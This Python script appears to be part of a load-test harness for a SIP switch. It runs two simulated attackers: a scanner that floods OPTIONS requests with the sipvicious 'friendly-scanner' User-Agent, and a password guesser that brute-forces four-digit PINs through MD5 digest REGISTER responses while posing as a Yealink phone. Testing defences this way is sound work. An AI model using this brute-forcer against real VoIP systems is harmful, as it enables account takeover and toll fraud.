"""load/attack.sh's third attacker: a scanner and a password guesser, each from its own
source address, for a given time. Prints one JSON line with what each sent and got back.

    python3 attackers.py SWITCH_IP SWITCH_PORT SCANNER_IP GUESSER_IP DOMAIN USER SECONDS

scanner: OPTIONS with `User-Agent: friendly-scanner` (sipvicious's), 20 a second.
guesser: REGISTERs for USER with MD5 digest answers to each challenge, trying passwords
0000, 0001, ... (100 guesses a second at most), with a phone's User-Agent.
"""
import hashlib
import json
import random
import socket
import sys
import threading
import time

sw_ip, sw_port, scan_ip, guess_ip, domain, user, seconds = sys.argv[1:8]
SW = (sw_ip, int(sw_port))
SECONDS = float(seconds)


def branch():
    return "z9hG4bK" + "%016x" % random.getrandbits(64)


def status_of(data):
    try:
        return int(data.split(b" ", 2)[1])
    except (IndexError, ValueError):
        return 0


def header(data, name):
    for line in data.decode("utf-8", "replace").split("\r\n"):
        k, _, v = line.partition(":")
        if k.strip().lower() == name.lower():
            return v.strip()
    return ""


def scanner(out):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((scan_ip, 0))
    s.settimeout(0.05)
    port = s.getsockname()[1]
    sent = answered = 0
    end = time.time() + SECONDS
    while time.time() < end:
        call_id = "scan-%d@%s" % (sent, scan_ip)
        msg = (
            f"OPTIONS sip:100@{sw_ip} SIP/2.0\r\n"
            f"Via: SIP/2.0/UDP {scan_ip}:{port};branch={branch()};rport\r\n"
            f"From: \"sipvicious\" <sip:100@1.1.1.1>;tag={sent}\r\n"
            f"To: \"sipvicious\" <sip:100@1.1.1.1>\r\n"
            f"Call-ID: {call_id}\r\nCSeq: 1 OPTIONS\r\nMax-Forwards: 70\r\n"
            f"User-Agent: friendly-scanner\r\nAccept: application/sdp\r\n"
            f"Contact: <sip:100@{scan_ip}:{port}>\r\nContent-Length: 0\r\n\r\n"
        )
        s.sendto(msg.encode(), SW)
        sent += 1
        deadline = time.time() + 0.05
        while time.time() < deadline:
            try:
                s.recvfrom(65535)
                answered += 1
            except socket.timeout:
                break
    out["scanner"] = {"source": scan_ip, "sent": sent, "answered": answered}


def guesser(out):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((guess_ip, 0))
    s.settimeout(0.2)
    port = s.getsockname()[1]
    counts = {"sent": 0, "guesses": 0, "401": 0, "403": 0, "200": 0, "other": 0, "silent": 0}
    ruri = f"sip:{domain}"
    guess = 0
    cseq = 0
    end = time.time() + SECONDS
    auth = ""
    call_id = "guess-%d@%s" % (random.getrandbits(32), guess_ip)
    while time.time() < end:
        cseq += 1
        msg = (
            f"REGISTER {ruri} SIP/2.0\r\n"
            f"Via: SIP/2.0/UDP {guess_ip}:{port};branch={branch()};rport\r\n"
            f"From: <sip:{user}@{domain}>;tag=g{guess}\r\nTo: <sip:{user}@{domain}>\r\n"
            f"Call-ID: {call_id}\r\nCSeq: {cseq} REGISTER\r\nMax-Forwards: 70\r\n"
            f"Contact: <sip:{user}@{guess_ip}:{port}>\r\nExpires: 60\r\n"
            f"User-Agent: Yealink SIP-T46S\r\n{auth}Content-Length: 0\r\n\r\n"
        )
        s.sendto(msg.encode(), SW)
        counts["sent"] += 1
        if auth:
            counts["guesses"] += 1
        try:
            data, _ = s.recvfrom(65535)
        except socket.timeout:
            counts["silent"] += 1
            auth = ""
            continue
        st = status_of(data)
        key = str(st) if str(st) in counts else "other"
        counts[key] += 1
        if st == 200:
            break
        auth = ""
        challenge = header(data, "WWW-Authenticate")
        if st == 401 and challenge.startswith("Digest"):
            params = {}
            for part in challenge[len("Digest"):].split(","):
                k, _, v = part.strip().partition("=")
                params[k.strip()] = v.strip().strip('"')
            realm, nonce = params.get("realm", domain), params.get("nonce", "")
            pw = "%04d" % guess
            guess += 1
            ha1 = hashlib.md5(f"{user}:{realm}:{pw}".encode()).hexdigest()
            ha2 = hashlib.md5(f"REGISTER:{ruri}".encode()).hexdigest()
            if "auth" in params.get("qop", ""):
                cnonce, nc = "%08x" % random.getrandbits(32), "00000001"
                resp = hashlib.md5(f"{ha1}:{nonce}:{nc}:{cnonce}:auth:{ha2}".encode()).hexdigest()
                auth = (f'Authorization: Digest username="{user}",realm="{realm}",nonce="{nonce}",'
                        f'uri="{ruri}",response="{resp}",algorithm=MD5,qop=auth,nc={nc},cnonce="{cnonce}"\r\n')
            else:
                resp = hashlib.md5(f"{ha1}:{nonce}:{ha2}".encode()).hexdigest()
                auth = (f'Authorization: Digest username="{user}",realm="{realm}",nonce="{nonce}",'
                        f'uri="{ruri}",response="{resp}",algorithm=MD5\r\n')
        time.sleep(0.005)
    counts["source"] = guess_ip
    out["guesser"] = counts


out = {}
threads = [threading.Thread(target=f, args=(out,)) for f in (scanner, guesser)]
for t in threads:
    t.start()
for t in threads:
    t.join()
print(json.dumps(out))
